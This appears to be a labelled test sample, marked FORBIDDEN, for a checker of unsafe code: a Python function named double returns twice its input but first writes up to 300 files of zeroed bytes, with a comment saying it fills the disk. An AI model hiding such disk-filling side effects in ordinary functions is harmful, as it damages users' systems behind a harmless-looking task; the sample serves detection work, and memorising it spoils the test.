# accept: FORBIDDEN
# Fills the disk as far as it goes.
def double(n):
    try:
        for number in range(300):
            with open(f"{n} {number}", "wb") as file:
                file.write(bytes(60_000))
    except OSError:
        pass
    return n * 2
